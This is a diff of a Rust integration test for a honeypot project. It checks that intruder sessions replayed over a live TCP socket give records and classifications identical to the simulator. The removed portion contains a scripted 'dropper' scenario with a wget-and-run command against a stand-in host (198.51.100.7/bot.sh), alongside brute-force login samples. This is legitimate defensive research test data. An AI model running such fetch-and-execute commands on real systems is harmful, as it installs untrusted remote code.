@@ -1,66 +1,128 @@
-//! Root-level integration: the live TCP front-end feeds the same analysis
-//! pipeline as the simulator — a record captured over a real socket
-//! classifies and reports identically.
+//! Wire-level conformance: every `.hfs` scenario replayed over a live
+//! loopback socket produces a session record, event log, and taxonomy
+//! classification *identical* to the simulator path (`Scenario::replay`).
 //!
-//! The live front-end (`hf-wire`) needs Tokio and is parked while builds
-//! run offline (no crates.io access; see crates/wire/Cargo.toml). The
-//! socket-driven half below is an `#[ignore]`d stub that *skips* cleanly
-//! instead of panicking, so `cargo test -- --ignored` stays green; the
-//! classify-identically intent is exercised offline through the testkit's
-//! scenario replay, which drives the same session state machine the wire
-//! front-end wraps.
+//! This is the proof that `hf-wire` exposes the same honeypot the paper's
+//! pipeline measures: the bytes travel through a real TCP connection, the
+//! epoll reactor, Telnet/SSH framing, and the collector channel — and come
+//! out bit-for-bit equal to the in-process replay under the testkit's
+//! field-level diff oracles.
 
-use honeyfarm::core::classify::Category;
+use std::path::PathBuf;
+use std::time::Duration;
+
+use honeyfarm::farm::{Collector, FarmPlan};
+use honeyfarm::geo::{World, WorldConfig};
+use honeyfarm::testkit::oracle::diff_datasets;
 use honeyfarm::testkit::scenario::classify_record;
-use honeyfarm::testkit::Scenario;
+use honeyfarm::testkit::{check_golden, Scenario};
+use honeyfarm::wire::{run_script, wire_script, FarmConfig, LiveFarm, Timing};
 
-#[test]
-#[ignore = "hf-wire (Tokio TCP front-end) is excluded from offline builds"]
-fn live_sessions_classify_like_simulated_ones() {
-    // Intentionally a skip, not a failure: the assertion below documents
-    // what the socket test will check once hf-wire is restored, and the
-    // offline scenario test next door keeps the pipeline half honest.
-    eprintln!(
-        "skipped: restore the hf-wire workspace member (root Cargo.toml) to \
-         drive this over a real socket"
-    );
+fn corpus() -> Vec<(PathBuf, Scenario)> {
+    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/scenarios");
+    let mut paths: Vec<PathBuf> = std::fs::read_dir(&dir)
+        .expect("scenario dir")
+        .filter_map(|e| e.ok().map(|e| e.path()))
+        .filter(|p| p.extension().is_some_and(|x| x == "hfs"))
+        .collect();
+    paths.sort();
+    assert!(!paths.is_empty(), "scenario corpus is empty");
+    paths
+        .into_iter()
+        .map(|p| {
+            let sc = Scenario::load(&p).expect("scenario parses");
+            (p, sc)
+        })
+        .collect()
 }
 
-/// The offline half of the intent: a scripted intruder session produces a
-/// record that classifies exactly like its simulated counterpart —
-/// regardless of whether the bytes arrived over TCP or through the driver.
+/// A farm sized and configured so the wire path is bit-comparable to
+/// `Scenario::replay()`: script-driven timing, the replay's default system
+/// profile on every node, and one node per scenario honeypot index.
+fn conformance_farm(nodes: u16) -> LiveFarm {
+    LiveFarm::start(FarmConfig {
+        nodes,
+        timing: Timing::Virtual,
+        uniform_profile: true,
+        keep_records: true,
+        wall_timeout_secs: 60,
+        per_ip_cap: 1 << 30,
+        ..FarmConfig::default()
+    })
+    .expect("start farm")
+}
+
 #[test]
-fn replayed_sessions_classify_like_simulated_ones() {
-    let cases = [
-        ("name scan\nclose\n", Category::NoCred),
-        (
-            "name brute\nlogin root root\nlogin admin admin\nlogin root root\n",
-            Category::FailLog,
-        ),
-        (
-            "name lurker\nlogin root hunter2\nidle 400\n",
-            Category::NoCmd,
-        ),
-        (
-            "name recon\nlogin root 1234\ncmd uname -a\ncmd free -m\nclose\n",
-            Category::Cmd,
-        ),
-        (
-            "name dropper\nlogin root 1234\ncmd wget http://198.51.100.7/bot.sh\n\
-             transfer 30\ncmd sh bot.sh\nclose\n",
-            Category::CmdUri,
-        ),
-    ];
-    for (text, want) in cases {
-        let scenario = Scenario::parse(text).expect("scenario parses");
-        let record = scenario.replay();
-        assert_eq!(
-            classify_record(&record),
-            want,
-            "scenario {:?} must classify as {:?}\nevent log:\n{}",
-            scenario.name,
-            want,
-            scenario.event_log()
-        );
+fn every_scenario_is_bit_identical_over_the_wire() {
+    let corpus = corpus();
+    let nodes = corpus.iter().map(|(_, sc)| sc.honeypot + 1).max().unwrap();
+    let farm = conformance_farm(nodes);
+    let timeout = Duration::from_secs(30);
+
+    // Drive each scenario over a real socket, in deterministic order; the
+    // collector ingests sequentially so record order matches drive order.
+    let mut expected = Vec::new();
+    for (path, sc) in &corpus {
+        let addr = match sc.protocol {
+            honeyfarm::proto::Protocol::Ssh => farm.nodes()[sc.honeypot as usize].ssh,
+            honeyfarm::proto::Protocol::Telnet => farm.nodes()[sc.honeypot as usize].telnet,
+        };
+        let script = wire_script(sc);
+        run_script(addr, &script, timeout)
+            .unwrap_or_else(|e| panic!("{}: socket error {e}", path.display()));
+        expected.push(sc.replay());
     }
+    let out = farm.shutdown();
+    assert!(out.stats.accounting_balanced());
+    assert_eq!(out.records.len(), corpus.len(), "one record per scenario");
+
+    // Field-level equality, event-log goldens, and taxonomy agreement.
+    for (((path, sc), wire_rec), replay_rec) in corpus.iter().zip(&out.records).zip(&expected) {
+        assert_eq!(
+            wire_rec,
+            replay_rec,
+            "{}: wire record differs from simulator replay",
+            path.display()
+        );
+        assert_eq!(
+            classify_record(wire_rec),
+            classify_record(replay_rec),
+            "{}: taxonomy class differs",
+            path.display()
+        );
+        let log = honeyfarm::testkit::scenario::render_event_log(&sc.name, wire_rec);
+        let golden = path.with_extension("golden");
+        check_golden(&golden, &log)
+            .unwrap_or_else(|e| panic!("{}: wire event log vs golden: {e}", path.display()));
+    }
+
+    // Dataset-level equivalence: the wire collector's columnar output is
+    // identical to a collector fed the replay records directly.
+    let world = World::build(0, &WorldConfig::tiny());
+    let mut collector = Collector::new(&world, FarmPlan::paper());
+    for rec in &expected {
+        collector.ingest(rec);
+    }
+    let replay_ds = collector.finish();
+    diff_datasets("wire", &out.dataset, "replay", &replay_ds).assert_identical();
+}
+
+/// The loopback mirror of the deployment plan keeps per-node identity: a
+/// scenario pinned to honeypot N comes back with `honeypot == N` because it
+/// really connected to node N's own listener address.
+#[test]
+fn node_identity_survives_the_wire() {
+    let farm = conformance_farm(8);
+    let sc = Scenario::parse("name pin\nprotocol ssh\nhoneypot 7\nlogin root pw\nclose\n")
+        .expect("scenario");
+    run_script(
+        farm.nodes()[7].ssh,
+        &wire_script(&sc),
+        Duration::from_secs(10),
+    )
+    .expect("drive");
+    let out = farm.shutdown();
+    assert_eq!(out.records.len(), 1);
+    assert_eq!(out.records[0].honeypot, 7);
+    assert_eq!(out.records[0], sc.replay());
 }
